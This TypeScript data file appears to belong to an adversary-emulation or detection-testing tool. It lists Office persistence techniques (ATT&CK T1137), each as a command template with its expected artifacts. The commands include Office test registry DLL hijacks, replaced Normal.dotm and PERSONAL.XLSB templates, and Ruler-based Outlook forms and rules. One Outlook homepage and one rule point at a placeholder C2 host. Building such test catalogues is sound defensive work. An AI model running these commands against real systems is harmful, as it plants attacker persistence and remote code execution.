import { t, v } from "../dsl";

/** Persistence (continued): Office application startup. */
export const persistenceC = [
  t("T1137", "Office application startup", "Office autostart: templates, add-ins and the Office Test key.", [
    v("office-test", [
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office test\\Special\\Perf" /t REG_SZ /d {{appdata}}\\{{rand}}.dll /f',
        reg: [
          ["HKCU\\Software\\Microsoft\\Office test\\Special\\Perf", "(Default)", "{{appdata}}\\{{rand}}.dll"],
        ],
      },
    ]),
  ]),
  t("T1137.001", "Office template macros", "Normal.dotm replaced with a macro-enabled template.", [
    v("normal-dotm", [
      {
        cmd: 'cmd.exe /c copy /y {{tmp}}\\{{rand}}.dotm "{{appdata}}\\Microsoft\\Templates\\Normal.dotm"',
        files: ["{{appdata}}\\Microsoft\\Templates\\Normal.dotm"],
      },
    ]),
    v("personal-xlsb", [
      {
        cmd: 'cmd.exe /c copy /y {{tmp}}\\p.xlsb "{{appdata}}\\Microsoft\\Excel\\XLSTART\\PERSONAL.XLSB"',
        files: ["{{appdata}}\\Microsoft\\Excel\\XLSTART\\PERSONAL.XLSB"],
      },
    ]),
  ]),
  t("T1137.002", "Office test", "The Office test\\Special\\Perf key pointing at a DLL.", [
    v("reg-add", [
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office test\\Special\\Perf" /t REG_SZ /d "{{appdata}}\\{{rand}}.dll" /f',
        reg: [
          ["HKCU\\Software\\Microsoft\\Office test\\Special\\Perf", "(Default)", "{{appdata}}\\{{rand}}.dll"],
        ],
      },
    ]),
    v(
      "hklm",
      [
        {
          cmd: 'reg add "HKLM\\Software\\Microsoft\\Office test\\Special\\Perf" /t REG_SZ /d "C:\\ProgramData\\{{rand}}.dll" /f',
          reg: [
            [
              "HKLM\\Software\\Microsoft\\Office test\\Special\\Perf",
              "(Default)",
              "C:\\ProgramData\\{{rand}}.dll",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1137.003", "Outlook forms", "A malicious custom form registered in Outlook (Ruler).", [
    v("ruler-form", [
      {
        cmd: "{{tools}}\\ruler.exe --email {{user}}@{{dns}} form add --suffix {{rand}} --input cmd.vbs --send",
        net: [["mail.{{dns}}", 443]],
      },
    ]),
  ]),
  t("T1137.004", "Outlook home page", "Folder WebView URL set to an attacker page.", [
    v("reg-webview", [
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox" /v URL /t REG_SZ /d "http://{{c2}}/home.html" /f',
        reg: [
          [
            "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox",
            "URL",
            "http://{{c2}}/home.html",
          ],
        ],
      },
    ]),
  ]),
  t("T1137.005", "Outlook rules", "A rule that starts an application on a keyword mail (Ruler).", [
    v("ruler-rule", [
      {
        cmd: '{{tools}}\\ruler.exe --email {{user}}@{{dns}} add --location "\\\\{{c2}}\\share\\shell.bat" --trigger "invoice" --name maintenance --send',
        net: [["mail.{{dns}}", 443]],
      },
    ]),
  ]),
];
